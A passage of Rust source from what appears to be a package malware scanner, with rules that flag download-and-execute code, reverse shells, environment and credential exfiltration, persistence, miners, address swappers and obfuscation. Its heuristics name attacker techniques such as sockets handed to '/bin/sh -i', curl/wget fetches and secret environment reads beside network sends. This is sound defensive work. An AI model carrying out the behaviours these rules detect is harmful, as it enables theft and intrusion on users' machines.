                Some(j + 2)
            }
            (Lang::Rust, "use") => {
                let mut path = Vec::new();
                let mut j = i + 1;
                while let Some(tok) = self.tok(j) {
                    if tok.kind == Kind::Ident {
                        path.push(tok.text.clone());
                        j += 1;
                    } else if tok.is_punct(b':') {
                        j += 1;
                    } else {
                        break;
                    }
                }
                if self.punct_at(j, b'{') {
                    let base = path.join(".");
                    let mut k = j + 1;
                    while let Some(tok) = self.tok(k) {
                        if tok.is_punct(b'}') || k - j > 64 {
                            break;
                        }
                        if tok.kind == Kind::Ident && !tok.is_ident("as") && !tok.is_ident("self") {
                            let local = if self.tok(k + 1).is_some_and(|t| t.is_ident("as")) {
                                self.tok(k + 2)
                                    .map_or_else(|| tok.text.clone(), |t| t.text.clone())
                            } else {
                                tok.text.clone()
                            };
                            if !self
                                .tok(k.wrapping_sub(1))
                                .is_some_and(|t| t.is_ident("as"))
                            {
                                aliases.insert(local, format!("{base}.{}", tok.text));
                            }
                        }
                        k += 1;
                    }
                } else if let Some(last) = path.last() {
                    aliases.insert(last.clone(), path.join("."));
                }
                Some(j)
            }
            _ => None,
        }
    }

    /// A dotted name `a.b.c` at `j`, and the index after it.
    fn dotted(&self, mut j: usize) -> (String, usize) {
        let mut parts = Vec::new();
        while let Some(tok) = self.tok(j) {
            if tok.kind != Kind::Ident {
                break;
            }
            parts.push(tok.text.as_str());
            if self.punct_at(j + 1, b'.') {
                j += 2;
            } else {
                j += 1;
                break;
            }
        }
        (parts.join("."), j)
    }

    /// The index after the statement that contains token `i` (same line, or inside
    /// brackets opened on it).
    fn statement_end(&self, i: usize) -> usize {
        let line = self.tokens[i].line;
        let mut depth = 0i32;
        let mut k = i;
        while k < self.tokens.len() && k - i < 512 {
            let t = &self.tokens[k];
            if depth <= 0 && (t.line != line || t.is_punct(b';')) {
                break;
            }
            match t.kind {
                Kind::Punct(b'(' | b'[' | b'{') => depth += 1,
                Kind::Punct(b')' | b']' | b'}') => depth -= 1,
                _ => {}
            }
            k += 1;
        }
        k
    }

    /// A call that counts: npm client libraries only when imported under that name
    /// (`request`, `got`, `needle` are common identifiers too).
    fn counts(&self, c: &Chain) -> bool {
        c.args.is_some()
            && !(self.lang == Lang::Js
                && !c.aliased
                && JS_LIBRARIES.iter().any(|l| {
                    c.name
                        .strip_prefix(l)
                        .is_some_and(|rest| rest.is_empty() || rest.starts_with('.'))
                }))
    }

    fn calls(&self, patterns: &'static [&'static str]) -> impl Iterator<Item = &Chain> {
        self.chains
            .iter()
            .filter(move |c| any_of(&c.name, patterns) && self.counts(c))
    }

    fn first_call(&self, patterns: &'static [&'static str]) -> Option<&Chain> {
        self.calls(patterns).next()
    }

    /// The calls whose names are in a pattern list (`K_NETWORK`, …).
    fn calls_of(&self, kind: u8) -> impl Iterator<Item = &Chain> {
        self.chains
            .iter()
            .filter(move |c| c.kinds & kind != 0 && self.counts(c))
    }

    fn args(&self, chain: &Chain) -> &[Token] {
        chain.args.map_or(&[][..], |(a, b)| {
            &self.tokens[a.min(self.tokens.len())..b.min(self.tokens.len())]
        })
    }

    /// The source line `line`, for evidence.
    fn line_text(&self, line: u32) -> &str {
        self.text
            .lines()
            .nth(line.saturating_sub(1) as usize)
            .unwrap_or_default()
    }

    /// Evidence around a token: its line, or (for long minified lines) the bytes near it.
    fn evidence(&self, tok: usize) -> String {
        let Some(t) = self.tok(tok) else {
            return String::new();
        };
        let line = self.line_text(t.line);
        if line.len() <= 160 {
            return line.trim().to_owned();
        }
        let start = (t.start as usize).saturating_sub(40);
        let end = (t.start as usize + 120).min(self.text.len());
        let mut s = start;
        while !self.text.is_char_boundary(s) {
            s += 1;
        }
        let mut e = end;
        while !self.text.is_char_boundary(e) {
            e -= 1;
        }
        self.text.get(s..e).unwrap_or_default().to_owned()
    }

    fn finding(&self, rule: &'static str, tok: usize, message: String) -> Finding {
        let line = self.tok(tok).map(|t| t.line);
        Finding::new(rule, self.path, line, message, &self.evidence(tok))
    }

    fn strings(&self) -> impl Iterator<Item = (usize, &Token)> {
        self.tokens
            .iter()
            .enumerate()
            .filter(|(_, t)| t.is_string())
    }

    /// The identifier at `k` was assigned decoded data shortly before.
    fn is_tainted(&self, k: usize) -> bool {
        self.tokens[k].kind == Kind::Ident
            && !self.punct_at(k.wrapping_sub(1), b'.')
            && self
                .tainted
                .get(&self.tokens[k].text)
                .is_some_and(|at| at.iter().any(|&a| a < k && k - a <= NEAR / 3))
    }

    /// The argument tokens hold decoded, decompressed or assembled data.
    fn decoded_args(&self, chain: &Chain) -> bool {
        let Some((a, b)) = chain.args else {
            return false;
        };
        (a..b.min(self.tokens.len())).any(|k| {
            let t = &self.tokens[k];
            match t.kind {
                // `chr` assembles text only inside what is evaluated.
                Kind::Ident => self.decodes(k) || self.is_tainted(k) || t.text == "chr",
                Kind::Str => t.text.len() >= 256 || t.escapes >= 32,
                // Python's `s[::-1]`.
                Kind::Punct(b':') => self.punct_at(k + 1, b':') && self.punct_at(k + 2, b'-'),
                _ => false,
            }
        })
    }

    /// The first argument (the address or module name; or a `url=` keyword) names a
    /// variable or call that decodes.
    fn hidden_args(&self, chain: &Chain) -> bool {
        let Some((a, b)) = chain.args else {
            return false;
        };
        let b = b.min(self.tokens.len());
        let mut depth = 0i32;
        let mut first_end = b;
        for k in a..b {
            match self.tokens[k].kind {
                Kind::Punct(b'(' | b'[' | b'{') => depth += 1,
                Kind::Punct(b')' | b']' | b'}') => depth -= 1,
                Kind::Punct(b',') if depth == 0 => {
                    first_end = k;
                    break;
                }
                _ => {}
            }
        }
        let mut ranges = vec![(a, first_end)];
        if let Some(u) = (a..b).find(|&k| {
            self.tokens[k].is_ident("url")
                && self.punct_at(k + 1, b'=')
                && !self.punct_at(k + 2, b'=')
        }) {
            ranges.push((u + 2, (u + 8).min(b)));
        }
        ranges.into_iter().flat_map(|(from, to)| from..to).any(|k| {
            let t = &self.tokens[k];
            t.kind == Kind::Ident && (self.decodes(k) || self.is_tainted(k))
        })
    }

    /// The name is indexed right after (`os.environ["HOME"]`, `process.env[k]`).
    fn subscripted(&self, chain: &Chain) -> bool {
        let parts = chain.name.matches('.').count();
        // The token after the chain, when the chain is spelled as written.
        let after = chain.first + 2 * parts + 1;
        self.punct_at(after, b'[') || self.punct_at(after, b'.')
    }

    /// Whether the program `exec` runs (its first argument) names something the
    /// `write` call's arguments name: the file written is the file run.
    fn shares_name(&self, write: &Chain, exec: &Chain) -> bool {
        const COMMON: &[&str] = &[
            "path",
            "join",
            "os",
            "__dirname",
            "__filename",
            "dirname",
            "process",
            "env",
            "Path",
            "str",
            "self",
            "sys",
            "tempfile",
            "gettempdir",
            "tmpdir",
            "homedir",
            "home",
            "expanduser",
            "getenv",
            "environ",
            "cwd",
            "resolve",
            "String",
            "format",
            "to_string",
            "as_str",
            "clone",
            "new",
            "var",
            "std",
            "fs",
            "File",
            "true",
            "false",
            "None",
        ];
        let idents = |c: &Chain, first_only: bool| -> HashSet<&str> {
            let args = self.args(c);
            let end = if first_only {
                let mut depth = 0i32;
                args.iter()
                    .position(|t| {
                        match t.kind {
                            Kind::Punct(b'(' | b'[' | b'{') => depth += 1,
                            Kind::Punct(b')' | b']' | b'}') => depth -= 1,
                            _ => {}
                        }
                        depth == 0 && t.is_punct(b',')
                    })
                    .unwrap_or(args.len())
            } else {
                args.len()
            };
            args[..end]
                .iter()
                .filter(|t| t.kind == Kind::Ident && !COMMON.contains(&t.text.as_str()))
                .map(|t| t.text.as_str())
                .collect()
        };
        let program = idents(exec, true);
        !program.is_empty() && idents(write, false).iter().any(|n| program.contains(n))
    }

    /// The "call" is a definition: `def eval(…)`, `function fetch(…)`, a method
    /// `async fetch(t) {…}`, `fn compile(…)`.
    fn defines(&self, chain: &Chain) -> bool {
        let before = chain.first.checked_sub(1).and_then(|k| self.tok(k));
        if before.is_some_and(|t| {
            matches!(
                t.text.as_str(),
                "def" | "function" | "fn" | "async" | "static" | "get" | "set"
            )
        }) {
            return true;
        }
        match chain.args {
            Some((_, close)) if self.lang == Lang::Js => self.punct_at(close + 1, b'{'),
            _ => false,
        }
    }

    /// The index of a call's last name token (`from` in `Buffer.from(…)`).
    fn callee(&self, chain: &Chain) -> usize {
        match chain.args {
            Some((a, _)) if a >= 2 && self.punct_at(a - 1, b'(') => a - 2,
            Some((a, _)) => a.saturating_sub(1),
            None => chain.first,
        }
    }

    /// The call's arguments are all literals (`new Function("return this")`).
    fn literal_args(&self, chain: &Chain) -> bool {
        self.args(chain)
            .iter()
            .all(|t| t.is_string() || matches!(t.kind, Kind::Num | Kind::Punct(b',' | b'+')))
    }
}

/// Pairs every opening bracket with its closing one; a closer of another kind closes
/// the innermost bracket anyway (the code may be broken; the pairing must not be).
fn matching(tokens: &[Token]) -> Vec<u32> {
    let mut out = vec![u32::MAX; tokens.len()];
    let mut open: Vec<usize> = Vec::new();
    for (k, t) in tokens.iter().enumerate() {
        match t.kind {
            Kind::Punct(b'(' | b'[' | b'{') => open.push(k),
            Kind::Punct(b')' | b']' | b'}') => {
                if let Some(o) = open.pop() {
                    out[o] = u32::try_from(k).unwrap_or(u32::MAX);
                }
            }
            _ => {}
        }
    }
    out
}

/// Runs the code rules over one source file.
pub fn check_source(path: &str, lang: Lang, data: &[u8]) -> Vec<Finding> {
    let probe = &data[..data.len().min(8192)];
    if probe.contains(&0) {
        return Vec::new();
    }
    let text = String::from_utf8_lossy(data);
    let facts = Facts::new(path, lang, &text);
    let mut out = Vec::new();
    strings_rules(&facts, &mut out);
    code_rules(&facts, &mut out);
    obfuscation_rules(&facts, &mut out);
    hidden_unicode(&facts, &mut out);
    if lang == Lang::Shell {
        for (n, line) in text.lines().enumerate() {
            let line_no = u32::try_from(n + 1).unwrap_or(u32::MAX);
            for f in shell_rules(line) {
                out.push(Finding::new(f.0, path, Some(line_no), f.1, line));
            }
        }
    }
    out
}

/// The rules over a shell command (an npm script, a string a program runs, a line of a
/// shell script): `(rule, message)`.
pub fn shell_rules(command: &str) -> Vec<(&'static str, String)> {
    let mut out = Vec::new();
    if let Some(m) = DOWNLOAD_EXEC.find(command) {
        out.push((
            "download-exec",
            format!("downloads and runs: `{}`", crate::shorten(m.as_str(), 80)),
        ));
    }
    if let Some(m) = REVERSE_SHELL.find(command) {
        out.push((
            "reverse-shell",
            format!("a reverse shell: `{}`", crate::shorten(m.as_str(), 80)),
        ));
    }
    if let Some(m) = LOLBIN.find(command) {
        out.push((
            "lolbin",
            format!("runs `{}`", crate::shorten(m.as_str(), 80)),
        ));
    }
    out
}

/// How far apart (in tokens) two calls may be to count as one piece of behaviour: about
/// a screenful of code, also in minified files, where lines mean nothing.
const NEAR: usize = 400;

/// Whether one of `others` (sorted) is within [`NEAR`] tokens of `k`.
fn near(k: usize, others: &[usize]) -> bool {
    let i = others.partition_point(|&o| o < k);
    others.get(i).is_some_and(|&o| o - k <= NEAR) || (i > 0 && k - others[i - 1] <= NEAR)
}

/// Every place the file talks to the network.
fn network_calls(facts: &Facts<'_>) -> Vec<usize> {
    let mut out: Vec<usize> = facts
        .calls_of(K_NETWORK)
        .filter(|c| !facts.defines(c))
        .map(|c| c.first)
        .collect();
    out.extend(
        facts
            .chains
            .iter()
            .filter(|c| {
                matches!(
                    c.name.as_str(),
                    "open" | "Kernel.open" | "urlopen" | "urlretrieve"
                ) && facts.args(c).first().is_some_and(|t| {
                    t.is_string()
                        && (t.text.starts_with("http://")
                            || t.text.starts_with("https://")
                            || t.text.starts_with("ftp://"))
                })
            })
            .map(|c| c.first),
    );
    out.extend(
        facts
            .strings()
            .filter(|(_, t)| {
                let s = t.text.as_str();
                (s.contains("curl ") || s.contains("wget ") || s.contains("Invoke-WebRequest"))
                    && s.contains("://")
            })
            .map(|(k, _)| k),
    );
    out.sort_unstable();
    out
}

/// Whether a write or exec call writes a file: `open` only with a writing mode.
fn writes_file(facts: &Facts<'_>, c: &Chain) -> bool {
    if facts.defines(c) {
        return false;
    }
    match c.name.as_str() {
        "open" | "io.open" | "File.open" => facts.args(c).iter().any(|t| {
            t.kind == Kind::Str
                && t.text.len() <= 3
                && (t.text.contains('w') || t.text.contains('a'))
        }),
        _ => true,
    }
}

/// The first place the file talks to the network.
fn network(facts: &Facts<'_>) -> Option<usize> {
    network_calls(facts).first().copied()
}

fn strings_rules(facts: &Facts<'_>, out: &mut Vec<Finding>) {
    let nets = network_calls(facts);
    let execs: Vec<usize> = facts
        .calls_of(K_EXEC)
        .chain(facts.calls_of(K_EVAL))
        .map(|c| c.first)
        .chain(
            facts
                .strings()
                .filter(|(_, t)| t.kind == Kind::Command)
                .map(|(k, _)| k),
        )
        .collect();
    let mut execs = execs;
    execs.sort_unstable();
    let has_network = !nets.is_empty();
    let writes: Vec<usize> = facts
        .calls_of(K_WRITE)
        .filter(|c| writes_file(facts, c))
        .map(|c| c.first)
        .collect();
    let mut credentials: Vec<(usize, &'static str, String)> = Vec::new();
    let mut addresses = Vec::new();
    let mut persistence: Option<(usize, String)> = None;
    let mut secret_pattern = None;
    let mut miner: Option<(usize, String)> = None;
    for (k, t) in facts.strings() {
        let s = t.text.as_str();
        // No pattern below matches fewer than six characters.
        if s.len() < 6 {
            continue;
        }
        // A command line in a string matters when the file runs commands nearby (help
        // texts quote commands too).
        if near(k, &execs) {
            for (rule, message) in shell_rules(s) {
                out.push(facts.finding(rule, k, message));
            }
        }
        for (category, pattern) in CREDENTIALS.iter() {
            if let Some(m) = pattern.find(s)
                && !credentials.iter().any(|(_, c, _)| c == category)
            {
                credentials.push((k, category, m.as_str().to_owned()));
            }
        }
        if let Some(m) = ENDPOINT.find(s) {
            out.push(facts.finding(
                "exfiltration-endpoint",
                k,
                format!(
                    "names `{}`, an endpoint attackers receive stolen data at",
                    crate::shorten(m.as_str(), 60)
                ),
            ));
        }
        if let Some(c) = IP_URL.captures(s) {
            let octet = |i: usize| {
                c.get(i)
                    .and_then(|m| m.as_str().parse::<u16>().ok())
                    .unwrap_or(0)
            };
            let (a, b) = (octet(2), octet(3));
            let private = a == 127
                || a == 10
                || a == 0
                || (a == 192 && b == 168)
                || (a == 172 && (16..32).contains(&b))
                || (a == 169 && b == 254);
            if !private {
                out.push(facts.finding(
                    "ip-url",
                    k,
                    format!(
                        "a URL with the raw IP address `{}`",
                        crate::shorten(&c[0], 60)
                    ),
                ));
            }
        }
        if persistence.is_none()
            && near(k, &writes)
            && let Some(m) = PERSISTENCE.find(s)
        {
            persistence = Some((k, m.as_str().to_owned()));
        }
        if is_address(s) {
            addresses.push(k);
        }
        if secret_pattern.is_none() && SECRET_PATTERN.is_match(s) {
            secret_pattern = Some(k);
        }
        if let Some(m) = MINER.find(s) {
            miner.get_or_insert((k, m.as_str().to_owned()));
        }
    }
    // A tool reads its own store; a stealer reads several kinds and sends them.
    if has_network && credentials.len() >= 2 {
        let names: Vec<String> = credentials
            .iter()
            .map(|(_, _, c)| format!("`{c}`"))
            .collect();
        let f = facts.finding(
            "credential-access",
            credentials[0].0,
            format!(
                "names {} kinds of credential stores ({}) in a file that uses the network",
                credentials.len(),
                names.join(", ")
            ),
        );
        out.push(if credentials.len() >= 3 {
            f.at(crate::Severity::High)
        } else {
            f
        });
    }
    if let Some((k, what)) = persistence {
        out.push(facts.finding(
            "persistence",
            k,
            format!(
                "writes to or runs `{what}`, a place that runs code at login, boot or on a schedule"
            ),
        ));
    }
    if let Some(k) = secret_pattern.filter(|&k| near(k, &nets)) {
        out.push(
            facts.finding(
                "secret-harvest",
                k,
                "a pattern for private keys or tokens in a file that sends data over the network"
                    .into(),
            ),
        );
    }
    if let Some((k, what)) = miner {
        out.push(facts.finding("cryptominer", k, format!("names `{what}`")));
    }
    if addresses.len() >= 5 && !is_test_path(facts.path) {
        out.push(facts.finding(
            "wallet-addresses",
            addresses[0],
            format!("{} cryptocurrency addresses in one file", addresses.len()),
        ));
    }
    let clipboard = facts.tokens.iter().position(|t| {
        (t.kind == Kind::Ident || t.kind == Kind::Str) && CLIPBOARD.contains(&t.text.as_str())
    });
    if let Some(k) = clipboard {
        let knows_addresses = !addresses.is_empty()
            || facts
                .strings()
                .any(|(_, t)| ADDRESS_PATTERN.is_match(&t.text));
        if knows_addresses {
            out.push(facts.finding(
                "clipboard-hijack",
                k,
                "uses the clipboard and knows cryptocurrency address formats: the shape of an address swapper".into(),
            ));
        }
    }
}

/// Tests and their data: code that runs in the package's own test suite, not when
/// it is installed or used.
pub fn is_test_path(path: &str) -> bool {
    let mut parts = path.split('/').peekable();
    while let Some(part) = parts.next() {
        if parts.peek().is_some() {
            if matches!(
                part,
                "test"
                    | "tests"
                    | "__tests__"
                    | "spec"
                    | "specs"
                    | "fixtures"
                    | "testdata"
                    | "testing"
            ) {
                return true;
            }
            continue;
        }
        let stem = part.split('.').next().unwrap_or(part);
        return matches!(stem, "test" | "tests" | "conftest")
            || stem.starts_with("test_")
            || stem.ends_with("_test")
            || part.contains(".test.")
            || part.contains(".spec.");
    }
    false
}

/// Is `process.env`, `os.environ` or `ENV` read as a whole, and where.
/// The environment walked variable by variable (`os.environ.items()`, `for k in
/// process.env`, `std::env::vars()`), which many tools do to filter it.
fn iterated_environment(facts: &Facts<'_>) -> Option<usize> {
    facts
        .chains
        .iter()
        .find(|c| {
            matches!(
                c.name.as_str(),
                "std.env.vars"
                    | "env.vars"
                    | "os.environ.items"
                    | "os.environ.keys"
                    | "os.environ.values"
            ) || (c.name == "process.env"
                && c.first > 0
                && facts
                    .tok(c.first - 1)
                    .is_some_and(|t| t.is_ident("in") || t.is_ident("of")))
        })
        .map(|c| c.first)
}

fn whole_environment(facts: &Facts<'_>) -> Option<usize> {
    let whole = |name: &str| {
        matches!(
            name,
            "process.env" | "os.environ" | "ENV" | "os.environ.copy" | "os.environ.items"
        )
    };
    for c in &facts.chains {
        if matches!(
            c.name.as_str(),
            "ENV.to_h" | "ENV.to_a" | "ENV.to_hash" | "ENV.inspect"
        ) {
            return Some(c.first);
        }
        let Some((a, b)) = c.args else { continue };
        if c.kinds & (K_SERIALIZE | K_NETWORK) == 0 {
            continue;
        }
        // Chains are in token order: the ones inside the arguments are a run of them.
        let from = facts.chains.partition_point(|x| x.first < a);
        if let Some(inner) = facts.chains[from..]
            .iter()
            .take_while(|x| x.first < b)
            .find(|x| whole(&x.name) && x.args.is_none() && !facts.subscripted(x))
        {
            return Some(inner.first);
        }
    }
    None
}

fn code_rules(facts: &Facts<'_>, out: &mut Vec<Finding>) {
    // What a package's own tests do is not what it does when installed or used.
    let nets = if is_test_path(facts.path) {
        Vec::new()
    } else {
        network_calls(facts)
    };
    let execs: Vec<&Chain> = facts
        .calls_of(K_EXEC)
        .filter(|c| !facts.defines(c))
        .collect();
    let written: Vec<&Chain> = facts
        .calls_of(K_WRITE)
        .filter(|c| writes_file(facts, c))
        .collect();
    let line = |k: usize| facts.tok(k).map_or(0, |t| t.line);
    // Download and execute, from the code: a fetch, a file written and a program run,
    // close together.
    // The program run is the file written (they share a name), close together.
    if let Some(x) = execs.iter().find(|x| {
        near(x.first, &nets)
            && written
                .iter()
                .any(|w| w.first.abs_diff(x.first) <= NEAR && facts.shares_name(w, x))
    }) {
        let n = nets
            .iter()
            .min_by_key(|n| n.abs_diff(x.first))
            .copied()
            .unwrap_or(x.first);
        out.push(
            facts
                .finding(
                    "download-exec",
                    x.first,
                    format!(
                        "fetches over the network (line {}), writes a file and runs `{}`",
                        line(n),
                        x.name
                    ),
                )
                .at(crate::Severity::High),
        );
    }
    // Where the file turns base64 or hex into bytes.
    let decoding: Vec<usize> = facts
        .tokens
        .iter()
        .enumerate()
        .filter(|(k, t)| {
            t.kind == Kind::Ident
                && (matches!(
                    t.text.as_str(),
                    "atob"
                        | "b64decode"
                        | "unhexlify"
                        | "fromhex"
                        | "decode64"
                        | "strict_decode64"
                        | "a2b_base64"
                ) || (t.text == "from" && facts.decodes(*k)))
        })
        .map(|(k, _)| k)
        .collect();
    for c in facts.calls_of(K_EVAL) {
        if !eval_for(facts.lang, &c.name) || facts.literal_args(c) || facts.defines(c) {
            continue;
        }
        // `Function` and `compile` build code from templates in many libraries: only
        // decoded arguments count; `eval` and `exec` also count near decoding.
        let templating = matches!(
            c.name.as_str(),
            "Function" | "compile" | "vm.Script" | "vm.compileFunction"
        );
        // (The file's own decoding helpers do not count here: in minified code their
        // one-letter names are everywhere.)
        let direct = c.args.is_some_and(|(a, b)| {
            (a..b.min(facts.tokens.len()))
                .any(|k| facts.decodes(k) && !facts.decoders.contains(&facts.tokens[k].text))
        });
        let decoded = if templating {
            direct
        } else {
            facts.decoded_args(c) || near(c.first, &decoding)
        };
        if decoded {
            out.push(facts.finding(
                "eval-decoded",
                c.first,
                format!("`{}` runs decoded or assembled data", c.name),
            ));
        } else if let Some(inner) = c
            .args
            .and_then(|(a, b)| nets.iter().find(|&&n| n >= a && n < b))
        {
            // eval(open("https://…").read): what it downloads is what it runs.
            out.push(
                facts
                    .finding(
                        "eval-remote",
                        c.first,
                        format!(
                            "`{}` runs what it downloads (line {})",
                            c.name,
                            line(*inner)
                        ),
                    )
                    .at(crate::Severity::High),
            );
        } else if near(c.first, &nets) {
            let n = nets
                .iter()
                .min_by_key(|n| n.abs_diff(c.first))
                .copied()
                .unwrap_or(c.first);
            out.push(facts.finding(
                "eval-remote",
                c.first,
                format!("`{}` next to a network fetch (line {})", c.name, line(n)),
            ));
        }
    }
    // A key-handling library's function replaced: the keys pass through the new one.
    if let Some((k, name)) = facts.patched.first() {
        out.push(facts.finding(
            "wallet-hook",
            *k,
            format!("replaces `{name}` of a library that handles private keys"),
        ));
    }
    // Modules loaded by a name decoded at run time.
    for c in facts.calls(&["require", "__import__", "importlib.import_module"]) {
        let direct = facts.args(c).first().is_some_and(|t| t.kind == Kind::Ident)
            && c.args.is_some_and(|(a, _)| facts.decodes(a));
        if direct {
            out.push(facts.finding(
                "eval-decoded",
                c.first,
                format!(
                    "`{}` loads a module whose name is decoded at run time",
                    c.name
                ),
            ));
        }
    }
    // Network addresses decoded at run time.
    for c in facts.calls_of(K_NETWORK) {
        if !facts.defines(c) && facts.hidden_args(c) {
            out.push(facts.finding(
                "hidden-endpoint",
                c.first,
                format!("`{}` contacts an address decoded at run time", c.name),
            ));
            break;
        }
    }
    // Names assigned a string literal somewhere (`cmd = "docker ps"`), found once.
    let literal_names: HashSet<&str> = facts
        .tokens
        .windows(3)
        .filter(|w| w[0].kind == Kind::Ident && w[1].is_punct(b'=') && w[2].is_string())
        .map(|w| w[0].text.as_str())
        .collect();
    // Silent, detached processes.
    for c in facts.calls_of(K_EXEC) {
        let args = facts.args(c);
        let detached = args.iter().any(|t| {
            matches!(
                t.text.as_str(),
                "detached"
                    | "start_new_session"
                    | "CREATE_NO_WINDOW"
                    | "DETACHED_PROCESS"
                    | "creationflags"
                    | "setsid"
            )
        });
        let quiet = args
            .iter()
            .any(|t| matches!(t.text.as_str(), "ignore" | "DEVNULL"));
        // A shell command that is not written in the file, run next to a fetch: the
        // command came from the network (a remote-control loop).
        let shell = args.iter().any(|t| t.is_ident("shell"))
            || matches!(
                c.name.as_str(),
                "os.system"
                    | "os.popen"
                    | "child_process.exec"
                    | "child_process.execSync"
                    | "system"
                    | "IO.popen"
                    | "Kernel.system"
            );
        let command_from_data = args.first().is_some_and(|t| {
            t.kind == Kind::Ident
                // `cmd = "docker ps"` earlier: the command is in the code.
                && !literal_names.contains(t.text.as_str())
        }) && !args
            .get(1)
            .is_some_and(|t| t.is_punct(b'.') || t.is_punct(b'('));
        if shell && command_from_data && !is_test_path(facts.path) && near(c.first, &nets) {
            out.push(facts.finding(
                "remote-exec",
                c.first,
                format!(
                    "`{}` runs a shell command that is not in the code, next to a network fetch",
                    c.name
                ),
            ));
        }
        if detached && quiet {
            out.push(facts.finding(
                "silent-exec",
                c.first,
                format!(
                    "`{}` starts a detached process with its output discarded",
                    c.name
                ),
            ));
        }
        for t in args.iter().filter(|t| t.is_string()) {
            for (rule, message) in shell_rules(&t.text) {
                out.push(Finding::new(
                    rule,
                    facts.path,
                    Some(t.line),
                    message,
                    &t.text,
                ));
            }
        }
    }
    // Environment sent out: all of it, or secrets by name, read next to a send.
    let secrets: Vec<usize> = facts
        .tokens
        .iter()
        .enumerate()
        .filter(|(_, t)| {
            (t.kind == Kind::Ident || t.kind == Kind::Str) && SECRET_ENV.contains(&t.text.as_str())
        })
        .filter(|(k, _)| {
            facts.tokens[k.saturating_sub(4)..*k].iter().any(|t| {
                matches!(
                    t.text.as_str(),
                    "env" | "environ" | "getenv" | "ENV" | "var" | "get"
                )
            })
        })
        .map(|(k, _)| k)
        .collect();
    // One token sent to the API it is for is how tools authenticate; a stealer reads
    // several.
    // Services, not names: AWS signing reads both of its keys.
    let services: HashSet<&str> = secrets
        .iter()
        .map(|&k| {
            let name = facts.tokens[k].text.as_str();
            name.split('_').next().unwrap_or(name)
        })
        .collect();
    let secret = (services.len() >= 2).then(|| secrets[0]);
    // Iterating over the environment counts only right next to the send.
    let iterated =
        iterated_environment(facts).filter(|&k| nets.iter().any(|&n| n.abs_diff(k) <= NEAR / 3));
    if let Some(k) = whole_environment(facts)
        .or(secret)
        .filter(|&k| near(k, &nets))
        .or(iterated)
    {
        let n = nets
            .iter()
            .min_by_key(|n| n.abs_diff(k))
            .copied()
            .unwrap_or(k);
        out.push(facts.finding(
            "env-exfiltration",
            k,
            format!(
                "reads the environment next to a network send (line {})",
                line(n)
            ),
        ));
    }
    // Reverse shells in code: a socket whose descriptors become a shell's.
    let socket = facts.first_call(&[
        "socket.socket",
        "net.Socket",
        "net.connect",
        "net.createConnection",
        "TCPSocket*",
        "std.net.TcpStream*",
        "TcpStream.*",
    ]);
    if let Some(s) = socket {
        let close = |k: usize| k.abs_diff(s.first) <= NEAR / 2;
        let dup = facts
            .calls(&["os.dup2", "pty.spawn"])
            .any(|c| close(c.first));
        let shell = facts.strings().any(|(k, t)| {
            close(k)
                && matches!(
                    t.text.as_str(),
                    "/bin/sh"
                        | "/bin/bash"
                        | "sh"
                        | "bash"
                        | "cmd.exe"
                        | "cmd"
                        | "powershell"
                        | "powershell.exe"
                        | "/bin/sh -i"
                        | "/bin/bash -i"
                )
        });
        let piped = facts.tokens.iter().enumerate().any(|(k, t)| {
            close(k) && (t.is_ident("pipe") || t.is_ident("stdin") || t.is_ident("fileno"))
        });
        if (dup && shell) || (shell && piped && execs.iter().any(|x| close(x.first))) {
            out.push(facts.finding(
                "reverse-shell",
                s.first,
                "connects a socket and hands it to a shell".into(),
            ));
        }
    }
    // Ruby and shell command strings.
    for (k, t) in facts.strings().filter(|(_, t)| t.kind == Kind::Command) {
        if (t.text.contains("curl") || t.text.contains("wget"))
            && t.text.contains("://")
            && shell_rules(&t.text).is_empty()
        {
            out.push(
                facts
                    .finding(
                        "download-exec",
                        k,
                        format!(
                            "a shell command that downloads: `{}`",
                            crate::shorten(&t.text, 60)
                        ),
                    )
                    .at(crate::Severity::High),
            );
        }
    }
    // A setup.py that replaces the install commands.
    if facts.lang == Lang::Python && facts.path.rsplit('/').next() == Some("setup.py") {
        for (k, t) in facts.tokens.iter().enumerate() {
            if !t.is_ident("class") {
                continue;
            }
            let end = facts.statement_end(k);
            let hooked = facts.tokens[k..end].iter().find(|b| {
                b.kind == Kind::Ident
                    && matches!(
                        b.text.as_str(),
                        "install"
                            | "develop"
                            | "egg_info"
                            | "bdist_egg"
                            | "easy_install"
                            | "_install"
                            | "InstallCommand"
                    )
            });
            if let Some(base) = hooked {
                out.push(facts.finding(
                    "install-hook",
                    k,
                    format!("a class derived from setuptools' `{}` command", base.text),
                ));
            }
        }
    }
}

fn obfuscation_rules(facts: &Facts<'_>, out: &mut Vec<Finding>) {
    // Obfuscator names (`_0x4f2a`) and Dean Edwards' packer.
    let mut hex_names = HashSet::new();
    let mut first_hex = None;
    for (k, t) in facts.tokens.iter().enumerate() {
        if t.kind == Kind::Ident
            && t.text.len() >= 6
            && t.text.starts_with("_0x")
            && t.text[3..].bytes().all(|b| b.is_ascii_hexdigit())
        {
            hex_names.insert(t.text.as_str());
            first_hex.get_or_insert(k);
        }
    }
    if hex_names.len() >= 20
        && let Some(k) = first_hex
    {
        out.push(facts.finding(
            "obfuscated-code",
            k,
            format!("{} obfuscator names such as `_0x…`", hex_names.len()),
        ));
    }
    for (k, w) in facts.tokens.windows(12).enumerate() {
        if !w[0].is_ident("eval") {
            continue;
        }
        let names: Vec<&str> = w
            .iter()
            .filter(|t| t.kind == Kind::Ident)
            .map(|t| t.text.as_str())
            .collect();
        if names.starts_with(&["eval", "function", "p", "a", "c", "k", "e"]) {
            out.push(
                facts
                    .finding("obfuscated-code", k, "packed with p,a,c,k,e,d".into())
                    .at(crate::Severity::High),
            );
            break;
        }
    }
    if let Some(k) = facts.tokens.iter().position(|t| {
        t.kind == Kind::Ident && (t.text == "__pyarmor__" || t.text.starts_with("pyarmor_runtime"))
    }) {
        out.push(facts.finding(
            "obfuscated-code",
            k,
            "protected with PyArmor: the code cannot be read".into(),
        ));
    }
    // Escaped strings and base64 literals are test data in tests, and in Rust, Ruby and
    // shell they are how binary data is written.
    if is_test_path(facts.path) || !matches!(facts.lang, Lang::Js | Lang::Python) {
        return;
    }
    // Strings written as escapes of plain ASCII: no reason but hiding.
    if let Some((k, t)) = facts.strings().find(|(_, t)| {
        t.escapes >= 16
            && t.text.len() >= 16
            && t.text.bytes().all(|b| (0x20..0x7f).contains(&b))
            && (t.escapes as usize) * 2 >= t.text.len()
    }) {
        out.push(facts.finding(
            "obfuscated-code",
            k,
            format!(
                "plain text written as {} escapes: `{}`",
                t.escapes,
                crate::shorten(&t.text, 60)
            ),
        ));
    }
    // Many short strings written as escapes (`'\x68\x74\x74\x70\x73'`).
    let escaped: Vec<usize> = facts
        .strings()
